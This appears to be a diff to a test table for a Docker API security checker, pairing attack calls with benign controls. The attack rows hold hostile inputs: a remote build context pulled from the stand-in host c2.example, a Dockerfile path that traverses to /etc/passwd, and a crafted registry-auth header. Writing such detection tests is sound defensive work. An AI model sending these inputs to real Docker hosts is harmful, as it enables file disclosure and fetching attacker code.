@@ -48,6 +48,20 @@ const ROWS: readonly Row[] = [
     control: makeCall('ContainerExec', { path: { id: '/own' }, body: { Cmd: ['id'] } }),
   },
   {
+    kind: 'registry-credentials',
+    attack: makeCall('ImageCreate', {
+      query: { fromImage: 'alpine', tag: '3' },
+      headers: {
+        'x-registry-auth': btoa('{"username":"c2.example","serveraddress":"registry.example.com"}'),
+      },
+    }),
+    raises: ['registry-credentials:registry.example.com'],
+    control: makeCall('ImageCreate', {
+      query: { fromImage: 'alpine', tag: '3' },
+      headers: { 'x-registry-auth': btoa('{"serveraddress":"registry.example.com"}') },
+    }),
+  },
+  {
     kind: 'remote-context',
     attack: build({ query: { remote: 'http://c2.example/ctx' } }),
     raises: ['remote-context:http://c2.example/ctx'],
@@ -56,8 +70,8 @@ const ROWS: readonly Row[] = [
   {
     kind: 'build-dockerfile',
     attack: build({ query: { dockerfile: 'a/../../../etc/passwd' } }),
-    raises: ['build-dockerfile:../../etc/passwd'],
-    control: build({ query: { dockerfile: './a/../b/Dockerfile' } }),
+    raises: ['build-dockerfile:a/../../../etc/passwd'],
+    control: build({ query: { dockerfile: './b/Dockerfile' } }),
   },
   {
     kind: 'build-network',
